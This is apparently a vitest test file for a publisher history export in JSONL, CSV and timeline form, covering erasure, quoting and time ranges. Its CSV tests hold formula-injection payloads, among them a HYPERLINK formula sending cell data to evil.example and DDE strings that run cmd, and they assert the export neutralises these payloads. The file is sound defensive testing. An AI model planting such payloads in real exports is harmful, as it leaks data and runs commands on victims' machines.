import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CSV_COLUMNS, inert, timeline } from '../../src/history/export.js';
import { NotFoundError } from '../../src/errors.js';
import { offerStream } from '../../src/events/offer/offer.events.js';
import { noContact, publisherStream } from '../../src/events/publisher/publisher.events.js';
import { contactSubject } from '../../src/privacy/data-subjects.js';
import { auditFixture, offerId, publisherId } from './audit-fixture.js';

const otherOffer = '0190f5a2-7b3c-7d4e-8f60-0000000000a2';
const strangersOffer = '0190f5a2-7b3c-7d4e-8f60-0000000000a3';
const stranger = '0190f5a2-7b3c-7d4e-8f60-00000000ffff';

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    else cell += c;
  }
  return rows;
}

describe('history export', () => {
  let f: ReturnType<typeof auditFixture>;
  beforeEach(async () => {
    f = auditFixture();
    f.at('2026-11-22T10:00:00.000Z');
    await f.append(publisherStream(publisherId), [
      {
        type: 'PublisherRegistered',
        data: {
          publisherId,
          companyName: 'Contoso, "China"',
          registrationCode: '91350100M000100Y43',
          contact: { name: 'Li Lei', telephone: '+8613800138000', email: 'li.lei@contoso.cn' },
          contactPreferences: noContact,
          registeredAt: '2026-11-22T10:00:00.000Z',
        },
      },
    ]);
    f.at('2026-11-22T11:00:00.000Z');
    await f.append(offerStream(offerId), [
      {
        type: 'OfferCreated',
        data: { offerId, publisherId, name: 'VM', kind: 'VIRTUAL_MACHINE', createdAt: '2026-11-22T11:00:00.000Z' },
      },
      {
        type: 'OfferCustomerServiceUpdated',
        data: { offerId, publisherId, supportContacts: [{ qq: '55501234' }], updatedAt: '2026-11-22T11:00:00.000Z' },
      },
    ]);
    await f.append(offerStream(strangersOffer), [
      {
        type: 'OfferCreated',
        data: {
          offerId: strangersOffer,
          publisherId: stranger,
          name: 'Not ours',
          kind: 'VIRTUAL_MACHINE',
          createdAt: '2026-11-22T11:00:00.000Z',
        },
      },
    ]);
    f.at('2026-11-22T12:00:00.000Z');
    await f.append(offerStream(otherOffer), [
      {
        type: 'OfferCreated',
        data: {
          offerId: otherOffer,
          publisherId,
          name: 'Template',
          kind: 'SOLUTION_TEMPLATE',
          createdAt: '2026-11-22T12:00:00.000Z',
        },
      },
    ]);
    await f.append(offerStream(offerId), [
      { type: 'OfferDeleted', data: { offerId, publisherId, deletedAt: '2026-11-22T12:00:00.000Z' } },
    ]);
    f.at('2026-11-22T13:00:00.000Z');
    await f.append(publisherStream(publisherId), [
      {
        type: 'ContactUpdated',
        data: { publisherId, contact: { email: 'han@contoso.cn' }, updatedAt: '2026-11-22T13:00:00.000Z' },
      },
    ]);
  });
  afterEach(() => f.close());

  const historyOf = async () =>
    [
      ...(await f.history.all({ kind: 'publisher', id: publisherId })),
      ...(await f.history.all({ kind: 'offer', id: offerId })),
      ...(await f.history.all({ kind: 'offer', id: otherOffer })),
    ].sort((a, b) => a.position - b.position);

  it('a JSONL export read back equals the publisher’s and its offers’ histories, deleted offer included', async () => {
    await f.keys.destroy(contactSubject(publisherId)); // erased values travel as erased
    const document = await f.historyExport.document(publisherId, 'jsonl');
    const readBack = document
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown);
    expect(readBack).toEqual(await historyOf());
    expect(readBack).toHaveLength(6);
    expect(document).not.toContain('li.lei@contoso.cn');
    expect(document).not.toContain('Not ours');
  });

  it('a CSV export has one row per changed field, every cell read back equal to the history', async () => {
    const rows = parseCsv(await f.historyExport.document(publisherId, 'csv'));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const expected = (await historyOf()).flatMap((e) =>
      e.changes.map((c) => [
        e.subject.kind,
        e.subject.id,
        String(e.revision),
        String(e.position),
        e.type,
        String(e.schemaVersion),
        e.occurredAt,
        e.actor.id,
        e.actor.kind,
        e.actor.role ?? '',
        c.field,
        c.before === null ? '' : String(c.before),
        c.after === null ? '' : String(c.after),
        'false',
        'false',
      ]),
    );
    expect(rows.slice(1)).toEqual(expected);
    expect(rows.some((row) => row[12] === 'Contoso, "China"')).toBe(true);
  });

  it('a company name written as a formula is inert text in CSV, and exact in JSONL', async () => {
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"Contoso")';
    await f.append(publisherStream(publisherId), [
      { type: 'ContactUpdated', data: { publisherId, companyName: payload, updatedAt: '2026-11-22T14:00:00.000Z' } },
    ]);
    const rows = parseCsv(await f.historyExport.document(publisherId, 'csv'));
    const renamed = rows.find((row) => row[10] === 'companyName' && row[4] === 'ContactUpdated');
    expect(renamed?.[12]).toBe(`'${payload}`);
    expect(rows.flat().some((cell) => cell.startsWith('='))).toBe(false);
    expect(rows.some((row) => row[12] === '+8613800138000')).toBe(true); // a telephone number stays a number
    const jsonl = await f.historyExport.document(publisherId, 'jsonl');
    expect(
      jsonl
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as { changes: Array<{ after: unknown }> })
        .some((e) => e.changes.some((c) => c.after === payload)),
    ).toBe(true);
  });

  it('a time range keeps the changes that occurred within it, bounds included', async () => {
    const document = await f.historyExport.document(publisherId, 'jsonl', {
      from: '2026-11-22T11:00:00.000Z',
      to: '2026-11-22T12:00:00.000Z',
    });
    const types = document
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as { type: string }).type);
    expect(types).toEqual(['OfferCreated', 'OfferCustomerServiceUpdated', 'OfferCreated', 'OfferDeleted']);
  });

  it('the timeline names each change, its actor and its fields', async () => {
    const text = timeline(await f.historyExport.entries(publisherId));
    expect(text).toContain(
      `2026-11-22T13:00:00.000Z  publisher ${publisherId} #1 (position 7)  ContactUpdated  by user op-1, operator`,
    );
    expect(text).toContain('    contact.email: "li.lei@contoso.cn" -> "han@contoso.cn"');
    expect(text).toContain('    supportContacts.0.qq: "55501234" -> (none)');
  });

  it('exporting a publisher that never registered is NOT_FOUND', async () => {
    await expect(f.historyExport.document(stranger, 'jsonl')).rejects.toThrow(NotFoundError);
  });
});

describe('CSV cells a spreadsheet would run', () => {
  it('start with an apostrophe; telephone numbers, signed numbers and plain text stay as they are', () => {
    for (const formula of [
      '=HYPERLINK("http://evil.example","x")',
      '@SUM(A1:A2)',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1',
      '\r=1',
      '=1',
    ]) {
      expect(inert(formula)).toBe(`'${formula}`);
    }
    for (const plain of [
      '+8613800138000',
      '-5',
      '+86 (10) 5555-0100',
      'Li Lei',
      'li.lei@contoso.cn',
      'a=b',
      '2026-11-22T10:00:00.000Z',
      '',
    ]) {
      expect(inert(plain)).toBe(plain);
    }
  });
});
